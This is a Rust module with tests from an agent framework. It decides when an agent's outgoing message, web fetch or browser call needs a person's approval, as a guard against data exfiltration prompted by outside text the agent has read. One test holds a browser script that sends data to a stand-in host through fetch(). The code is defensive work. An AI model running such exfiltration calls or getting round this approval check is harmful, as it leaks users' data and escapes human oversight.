//! Calls that can carry what a conversation knows to somebody else. Once it has read text from
//! outside, which may have asked for that, a person decides about them.
//!
//! | call | asks unless |
//! |---|---|
//! | `message` | it goes to the conversation's own chat |
//! | `web_fetch`, `browser` | the address was given to the conversation as it is: in a message of a person, a page or a list of search results. Then it has nothing that the model put into it |
//!
//! Mails and commands on nodes always need an approval, commands with the network unless the policy
//! allows them.

use holdfast_types::{Entry, Target};
use serde_json::Value;

/// Tools whose results the agent cannot have written itself.
const WEB_TOOLS: [&str; 2] = ["web_fetch", "web_search"];

/// Fields of `message` that do not say where it goes.
const CONTENT_FIELDS: [&str; 11] = [
    "action",
    "attachments",
    "content",
    "embed",
    "emoji",
    "message",
    "message_id",
    "poll_options",
    "reply_to",
    "text",
    "thread_name",
];

/// Returns the destination of a call about which a person decides, as an "always" rule names it;
/// `None` for other calls. `own` is the conversation's own chat.
pub(super) fn destination(
    tool: &str,
    input: &Value,
    own: Option<&Target>,
    entries: &[Entry],
) -> Option<String> {
    match tool {
        "message" => other_chat(input, own),
        "web_fetch" | "browser" => {
            let mut addresses = Vec::new();
            collect_addresses(input, "", &mut addresses);
            let unknown = addresses.into_iter().find(|url| !is_given(url, entries))?;
            Some(format!("addresses of {}", host(unknown)))
        }
        _ => None,
    }
}

/// Chat of a message, unless it is `own`.
fn other_chat(input: &Value, own: Option<&Target>) -> Option<String> {
    let fields = input.as_object()?;
    let names_target = |(name, value): (&String, &Value)| {
        !CONTENT_FIELDS.contains(&name.as_str()) && !value.is_null()
    };
    if !fields.iter().any(names_target) {
        return None;
    }
    let part = |name: &str| input["target"][name].as_str();
    let (channel, chat) = (part("channel"), part("chat"));
    let is_own = own.is_some_and(|own| {
        (channel, chat) == (Some(own.channel.as_str()), Some(own.chat.as_str()))
    });
    match (is_own, channel, chat) {
        (true, ..) => None,
        (false, Some(channel), Some(chat)) => Some(format!("messages to {channel}:{chat}")),
        // Names of other assistants' tools.
        (false, ..) => Some("messages to another chat".to_owned()),
    }
}

/// Texts of an input that are addresses, or contain one.
fn collect_addresses<'a>(input: &'a Value, field: &str, found: &mut Vec<&'a str>) {
    match input {
        Value::String(text) if field == "url" || text.contains("//") => found.push(text),
        Value::Array(items) => items.iter().for_each(|one| collect_addresses(one, field, found)),
        Value::Object(fields) => {
            fields.iter().for_each(|(name, value)| collect_addresses(value, name, found));
        }
        Value::String(_) | Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// Whether the conversation was given the address, or one that begins with it, by somebody else than
/// the agent.
fn is_given(url: &str, entries: &[Entry]) -> bool {
    let address = without_scheme(url);
    if address.is_empty() {
        return false;
    }
    let calls = entries.iter().filter_map(|entry| match entry {
        Entry::Thought { calls, .. } => Some(calls),
        Entry::Heard { .. }
        | Entry::Called { .. }
        | Entry::Returned { .. }
        | Entry::Noted { .. } => None,
    });
    let calls: Vec<_> = calls.flatten().collect();
    entries.iter().any(|entry| match entry {
        // A message of another conversation, or of a subagent's parent, is the agent's own text.
        Entry::Heard { body, .. } => {
            let is_of_person = body.author.is_some() || !body.outside;
            let quoted = body.reply_to.as_ref().map_or("", |replied| &replied.text);
            is_of_person && (body.text.contains(address) || quoted.contains(address))
        }
        // A search engine may repeat the query.
        Entry::Returned { call, output, .. } => {
            let made = calls.iter().rev().find(|made| made.id == *call);
            output.contains(address)
                && made.is_some_and(|made| {
                    WEB_TOOLS.contains(&made.tool.as_str()) && !made.input.contains(address)
                })
        }
        Entry::Thought { .. } | Entry::Called { .. } | Entry::Noted { .. } => false,
    })
}

fn without_scheme(url: &str) -> &str {
    let url = url.trim();
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    rest.split('#').next().unwrap_or_default().trim_end_matches('/')
}

fn host(url: &str) -> &str {
    without_scheme(url).split(['/', '?']).next().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use holdfast_types::{AccountId, Author, Body, ToolCall, Usage};
    use serde_json::json;

    use super::*;

    fn made(tool: &str, input: &str, output: &str) -> [Entry; 2] {
        let call = ToolCall { id: tool.into(), tool: tool.into(), input: input.into() };
        let thought = Entry::Thought {
            text: "https://thought.example/".into(),
            calls: vec![call],
            usage: Usage::default(),
            model: String::new(),
            carry: None,
            record: None,
        };
        [thought, Entry::returned(tool, output, false)]
    }

    #[test]
    fn an_address_is_free_only_if_somebody_else_gave_it() {
        let heard = |body: Body| Entry::Heard { seq: 1, body };
        let outside = |text: &str| Body { outside: true, ..Body::text(text) };
        let mut entries = vec![
            heard(Body::text("see https://said.example/a?b=c#d")),
            heard(outside("https://told.example/")),
            heard(Body { author: Some(Author::default()), ..outside("https://sent.example/") }),
        ];
        entries.extend(made("web_fetch", "{}", "[next](https://page.example/2)"));
        entries.extend(made("web_search", "https://echo.example/", "https://echo.example/"));
        entries.extend(made("exec", "{}", "https://exec.example/"));
        for (url, is_free) in [
            ("https://said.example/a?b=c#d", true),
            ("said.example/a", true),
            ("https://said.example/a?b=c&secret=1", false),
            ("https://secret.said.example/", false),
            ("https://page.example/2", true),
            ("https://page.example/3", false),
            ("https://sent.example", true),
            ("https://told.example/", false),
            ("https://echo.example/", false),
            ("https://exec.example/", false),
            ("https://thought.example/", false),
            ("", false),
        ] {
            for (tool, input) in [
                ("web_fetch", json!({ "url": url })),
                ("browser", json!({ "action": "navigate", "url": url })),
            ] {
                let asked = destination(tool, &input, None, &entries);
                assert_eq!(asked.is_none(), is_free, "{tool} {url}: {asked:?}");
            }
        }
        let script = json!({ "action": "evaluate", "expression": "fetch('//x.example/?' + d)" });
        assert!(destination("browser", &script, None, &entries).is_some());
        let click = json!({ "action": "click", "ref": "e1" });
        assert_eq!(destination("browser", &click, None, &entries), None);
    }

    #[test]
    fn a_message_is_free_only_in_its_own_chat() {
        let own = Target {
            channel: "telegram".into(),
            account: AccountId::generate(),
            chat: "7".into(),
            thread: None,
            reply_to: None,
        };
        let to =
            |chat: &str| json!({ "text": "a", "target": {"channel": "telegram", "chat": chat} });
        for (input, asked) in [
            (json!({ "text": "a", "attachments": ["x"], "target": null }), None),
            (to("7"), None),
            (to("8"), Some("messages to telegram:8")),
            (json!({ "text": "a", "channel": "8" }), Some("messages to another chat")),
        ] {
            assert_eq!(
                destination("message", &input, Some(&own), &[]).as_deref(),
                asked,
                "{input}"
            );
        }
        assert!(destination("message", &to("7"), None, &[]).is_some());
    }
}
